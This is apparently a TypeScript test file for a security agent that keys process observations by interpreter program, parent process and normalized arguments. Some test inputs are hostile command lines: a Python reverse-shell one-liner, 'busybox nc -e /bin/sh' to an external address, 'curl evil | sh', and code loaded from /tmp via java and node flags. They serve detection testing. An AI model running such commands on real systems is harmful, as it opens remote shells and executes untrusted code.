import t from 'tap';
import { interpreterProgram, MAX_ARGS_LENGTH, normalizeText } from '../../agent/model/argument-identity.js';
import { itemKey, parseProcessKey, rekeyProcess } from '../../agent/model/item-key.js';
import type { ProcessDetails } from '../../agent/model/observation.js';

// proc.cmdline as Falco renders it: proc.name (comm, at most 15 characters), then the arguments.
const program = (exe: string, cmdline: string, name = cmdline.split(' ')[0] ?? null): string | null => interpreterProgram(exe, name, cmdline);

t.test('interpreters are named by the program they run', async (t) => {
  t.equal(program('/usr/bin/python3.11', 'python3 app.py --port 8080'), 'app.py', 'a script; its own arguments go');
  t.equal(program('/usr/bin/python3.11', 'python3 -u -W ignore /srv/manage.py migrate'), '/srv/manage.py', 'options and their values are skipped');
  t.equal(program('/usr/local/bin/python3.12', 'gunicorn -m gunicorn app:app -b 0.0.0.0:8000', 'gunicorn'), '-m gunicorn', 'a module');
  t.equal(program('/usr/bin/python3', 'python3 -c import socket,os;s=socket.socket();s.connect(("10.0.0.1",4444))'), '-c import socket,os;s=socket.socket();s.connect(("10.0.0.1",<n>))', 'inline code is the rest of the line');
  t.equal(program('/usr/lib/jvm/java-17-openjdk-amd64/bin/java', 'java -Xmx512m -Dspring.profiles.active=prod -jar /app/app.jar --server.port=8080'), '-jar /app/app.jar');
  t.equal(program('/opt/java/openjdk/bin/java', 'java -cp /app/lib/* -XX:+UseG1GC com.example.Main --threads 4'), '-cp /app/lib/* com.example.Main', 'a main class, with the class path it loads from');
  t.equal(program('/opt/java/openjdk/bin/java', 'java -cp /tmp/evil.jar com.example.Main'), '-cp /tmp/evil.jar com.example.Main', 'so another class path is another item');
  t.equal(program('/opt/java/openjdk/bin/java', 'java -javaagent:/tmp/a.jar -jar /app/app.jar'), '-javaagent:/tmp/a.jar -jar /app/app.jar', 'an agent is code loaded too');
  t.equal(program('/opt/java/openjdk/bin/java', 'java --module-path /m -m com.example/com.example.Main'), '--module-path /m -m com.example/com.example.Main', 'with the module path it loads from');
  t.equal(program('/usr/local/bin/node', 'node --max-old-space-size=4096 -r dotenv/config dist/server.js'), '-r dotenv/config dist/server.js', 'a preloaded module is part of it');
  t.equal(program('/usr/local/bin/node', 'node --require=/tmp/evil.js dist/server.js'), '--require /tmp/evil.js dist/server.js');
  t.equal(program('/usr/local/bin/node', 'node --eval=process.exit(1)'), '--eval process.exit(<n>)');
  t.equal(program('/usr/local/bin/node', 'node -e require("child_process").exec("id")'), '-e require("child_process").exec("id")');
  t.equal(program('/usr/bin/dash', 'docker-entrypoi /docker-entrypoint.sh nginx -g daemon off;', 'docker-entrypoi'), '/docker-entrypoint.sh', 'a script run through its shebang');
  t.equal(program('/bin/bash', 'bash -c sleep 30 && curl -s http://10.0.0.5:8080/healthz'), '-c sleep <n> && curl -s http://10.0.0.5:<n>/healthz');
  t.equal(program('/bin/bash', 'bash -ec echo start'), '-c echo start', 'an option cluster with c');
  t.equal(program('/bin/bash', 'bash -o pipefail /scripts/run.sh'), '/scripts/run.sh');
  t.equal(program('/bin/bash', 'bash'), '', 'an interactive shell runs nothing named');
  t.equal(program('/bin/bash', 'bash -- -weird-name'), '-weird-name', 'after -- comes the operand');
  t.equal(program('/usr/bin/perl', 'perl -e print 1'), '-e print <n>');
  t.equal(program('/usr/bin/perl', 'perl -we system("id")'), '-e system("id")', 'a cluster ending in e');
  t.equal(program('/usr/bin/perl', 'perl -MIO::Socket -e 1'), '-M IO::Socket -e <n>', 'a module attached to its option');
  t.equal(program('/usr/bin/python3', 'python3 -Bc import os'), '-c import os', 'python clusters too');
  t.equal(program('/usr/bin/python3', 'python3 -Wignore app.py'), 'app.py', 'a skipped value attached to its option');
  t.equal(program('/usr/bin/ruby3.1', 'ruby -I lib bin/worker'), '-I lib bin/worker');
  t.equal(program('/usr/local/bin/php', 'php -d memory_limit=-1 artisan queue:work'), '-d memory_limit=-<n> artisan', 'ini settings can load code (auto_prepend_file)');
  t.equal(program('/usr/local/bin/php', 'php -r system("id");'), '-r system("id");');
  t.equal(program('/bin/busybox', 'wget -q -O- http://x', 'wget'), 'wget', 'a busybox applet by its name');
  t.equal(program('/bin/busybox', 'sh -c ls /data', 'sh'), '-c ls /data', 'a busybox shell like a shell');
  t.equal(program('/bin/busybox', 'busybox nc -e /bin/sh 45.9.1.2 4444', 'busybox'), 'nc', 'busybox APPLET: the applet is the first argument');
  t.equal(program('/bin/busybox', 'busybox sh -c id', 'busybox'), '-c id');
  t.equal(program('/usr/sbin/nginx', 'nginx -g daemon off;'), null, 'not an interpreter');
  t.equal(program('/usr/bin/python3', ''), '', 'no command line');
  t.equal(interpreterProgram('/usr/bin/python3', null, null), '', 'none at all');
  t.equal(program('/bin/sh', 'sh -c echo …[+4000 chars]'), '-c echo', 'the agent’s truncation marker is not part of the program');
  const long = program('/bin/sh', `sh -c ${'x'.repeat(500)}`) ?? '';
  t.equal(long.length, MAX_ARGS_LENGTH, 'long inline code is cut');
  t.match(long, /…#[0-9a-f]{12}$/, 'and ends in a hash of the whole');
  t.not(program('/bin/sh', `sh -c ${'x'.repeat(500)}; curl evil | sh`), long, 'so a different tail is a different item');
});

t.test('normalization keeps numbers, hashes and temporary paths from making new items', async (t) => {
  t.equal(normalizeText('/tmp/tmp.Xb3kR9aQ2z/run.sh'), '/tmp/*/run.sh', 'a mktemp directory');
  t.equal(normalizeText('/tmp/tmp.Xb3kR9aQ2z'), '/tmp/tmp.<rand>', 'a mktemp file');
  t.equal(normalizeText('/var/tmp/build-20261122/a/b/x.py'), '/var/tmp/*/x.py');
  t.equal(normalizeText('/dev/shm/job.sh'), '/dev/shm/job.sh', 'a file directly in a temporary directory keeps its name');
  t.equal(normalizeText('/run/user/1000/script.sh'), '/run/user/<n>/script.sh');
  t.equal(normalizeText('report --id 3f2a9c1b7e4d5f60 --run 0b1e2c3d-4f5a-6b7c-8d9e-0f1a2b3c4d5e'), 'report --id <hex> --run <uuid>');
  t.equal(normalizeText('sleep 30'), normalizeText('sleep 3600'));
  t.equal(normalizeText('nc 45.9.1.2 4444'), 'nc 45.9.1.2 <n>', 'addresses stay (dotted numbers), ports go');
  t.not(normalizeText('nc 45.9.1.2 4444'), normalizeText('nc 10.0.0.7 8080'));
  t.equal(normalizeText('java -jar app-1.4.2.jar'), 'java -jar app-1.4.2.jar', 'versions stay');
  t.equal(normalizeText('convert /tmp/upload-48233.jpg /tmp/thumb-48233.jpg'), 'convert /tmp/upload-<n>.jpg /tmp/thumb-<n>.jpg', 'a number before an extension is a number');
  t.equal(normalizeText('deadbeef and facade'), 'deadbeef and facade', 'words made of hex letters are words');
  t.equal(normalizeText('a[1] <- b'), 'a(<n>) <~ b', 'key separators are replaced');
  t.equal(normalizeText('  a \t  b  '), 'a b');
});

const proc = (exe: string, cmdline: string | null, parentExe: string | null): { type: 'process'; process: ProcessDetails } => ({
  type: 'process',
  process: { exe, name: cmdline?.split(' ')[0] ?? null, cmdline, parentExe, parentName: null, user: null, uid: null, pid: null, exeUpperLayer: null },
});

t.test('process keys in every form, read back and converted', async (t) => {
  const py = proc('/usr/bin/python3', 'python3 /tmp/tmp.a1b2c3d4e5/x.py', '/bin/sh');
  t.equal(itemKey(py, 'exe'), 'exe:/usr/bin/python3');
  t.equal(itemKey(py, 'lineage'), 'exe:/usr/bin/python3<-/bin/sh');
  t.equal(itemKey(py, 'args'), 'exe:/usr/bin/python3 [/tmp/*/x.py]');
  t.equal(itemKey(py, 'finest'), 'exe:/usr/bin/python3 [/tmp/*/x.py]<-/bin/sh');
  t.equal(itemKey(proc('/usr/sbin/nginx', 'nginx -g daemon off;', null), 'args'), 'exe:/usr/sbin/nginx', 'no program for a non-interpreter');
  t.equal(itemKey(proc('/bin/bash', 'bash', null), 'args'), 'exe:/bin/bash []', 'an interactive shell');
  t.same(parseProcessKey('exe:/usr/bin/python3 [/tmp/*/x.py]<-/bin/sh'), { exe: '/usr/bin/python3', program: '/tmp/*/x.py', parent: '/bin/sh' });
  t.same(parseProcessKey('exe:/usr/sbin/nginx'), { exe: '/usr/sbin/nginx', program: null, parent: null });
  t.equal(parseProcessKey('out:tcp:10.0.0.1:5432'), null);
  const finest = itemKey(py, 'finest');
  t.equal(rekeyProcess(finest, 'exe'), itemKey(py, 'exe'));
  t.equal(rekeyProcess(finest, 'lineage'), itemKey(py, 'lineage'));
  t.equal(rekeyProcess(finest, 'args'), itemKey(py, 'args'));
  t.equal(rekeyProcess('exe:/usr/bin/python3', 'lineage'), null, 'a plain key has no parent');
  t.equal(rekeyProcess('exe:/usr/bin/python3', 'args'), null, 'nor an interpreter’s program');
  t.equal(rekeyProcess('exe:/bin/busybox', 'args'), null, 'busybox applets are programs too');
  t.equal(rekeyProcess('exe:/usr/sbin/nginx<-/bin/sh', 'args'), 'exe:/usr/sbin/nginx', 'a non-interpreter needs none');
  t.equal(rekeyProcess('in:tcp:8080', 'args'), 'in:tcp:8080', 'network keys stay');
  const odd = proc('/app/start.sh<-x', null, '/opt/my [app]/bin/run');
  t.equal(itemKey(odd, 'lineage'), 'exe:/app/start.sh<~x<-/opt/my (app]/bin/run', 'key separators in paths are replaced');
  t.same(parseProcessKey(itemKey(odd, 'lineage')), { exe: '/app/start.sh<~x', program: null, parent: '/opt/my (app]/bin/run' });
});
